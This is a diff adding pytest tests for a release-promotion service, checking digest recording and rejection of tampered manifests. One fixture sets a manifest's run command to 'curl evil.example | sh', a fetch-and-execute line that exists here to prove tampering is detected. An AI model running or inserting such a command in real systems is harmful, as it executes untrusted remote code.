@@ -2,11 +2,14 @@
 
 import io
 from collections.abc import Mapping
+from dataclasses import replace
 
 import pytest
 
 from lifecycle.application.delivery.promote import Promoted, promote
 from lifecycle.domain.errors import DigestMismatch, InvalidValue, Refused, Unknown
+from lifecycle.domain.service.manifest import Run
+from lifecycle.domain.service.published import Published
 from tests.fakes.artifacts import MemoryArtifacts
 from tests.fakes.catalogue import MemoryCatalogue
 from tests.support.rollout import manifest
@@ -105,3 +108,55 @@ def test_snapshot_whose_manifest_was_exchanged_is_not_promoted() -> None:
     with pytest.raises(DigestMismatch, match=f"the manifest of hello {SNAPSHOT} was .* sha256 {'e' * 64}, found"):
         shop.promote()
     assert shop.releases() == {}
+
+
+def test_digests_of_a_release_are_recorded_with_who_promoted_it() -> None:
+    shop = Shop()
+    shop.promote()
+    stored = shop.artifacts.stored_manifest("hello", "1.0.0")
+    assert shop.catalogue.published("hello", "1.0.0") == Published(MADE.digest, stored.sha256, "ada")
+
+
+def test_snapshot_whose_command_was_exchanged_is_not_promoted() -> None:
+    shop = Shop()
+    shop.catalogue.record_published("hello", SNAPSHOT, Published(MADE.digest, "b" * 64))
+    with pytest.raises(DigestMismatch, match=f"the manifest of hello {SNAPSHOT} was .* sha256 {'b' * 64}, found"):
+        shop.promote()
+    assert shop.releases() == {}
+
+
+def test_promotion_that_another_person_repeats_writes_what_was_recorded_first() -> None:
+    shop = Shop()
+    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
+    copy = replace(MADE, version="1.0.0", snapshot=SNAPSHOT, builder="build-1, promoted by grace")
+    recorded = Published(MADE.digest, shop.artifacts.manifest_digest(copy), "grace")
+    shop.catalogue.record_published("hello", "1.0.0", recorded)
+    assert shop.promote() == Promoted("hello", SNAPSHOT, "1.0.0", MADE.digest, False)
+    assert shop.artifacts.manifest("hello", "1.0.0") == copy
+
+
+def test_release_from_before_digests_were_recorded_is_recorded_as_it_is() -> None:
+    shop = Shop()
+    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
+    copy = replace(MADE, version="1.0.0", snapshot=SNAPSHOT, builder="build-1, promoted by grace")
+    shop.artifacts.publish(copy, io.BytesIO(SNAPSHOT.encode()))
+    assert not shop.promote().created
+    assert shop.catalogue.published("hello", "1.0.0") == Published(MADE.digest, shop.artifacts.manifest_digest(copy))
+
+
+def test_release_from_before_that_is_not_of_its_snapshot_is_not_recorded() -> None:
+    shop = Shop()
+    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
+    other = replace(MADE, version="1.0.0", snapshot=SNAPSHOT, run=Run("curl evil.example | sh", 8080))
+    shop.artifacts.publish(other, io.BytesIO(SNAPSHOT.encode()))
+    with pytest.raises(DigestMismatch, match=r"the manifest of hello 1\.0\.0"):
+        shop.promote()
+    assert shop.catalogue.published("hello", "1.0.0") is None
+
+
+def test_release_of_another_version_of_lifecycle_is_not_written_differently() -> None:
+    shop = Shop()
+    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
+    shop.catalogue.record_published("hello", "1.0.0", Published(MADE.digest, "c" * 64, "grace"))
+    with pytest.raises(Refused, match="push its commit again, and promote that snapshot"):
+        shop.promote()
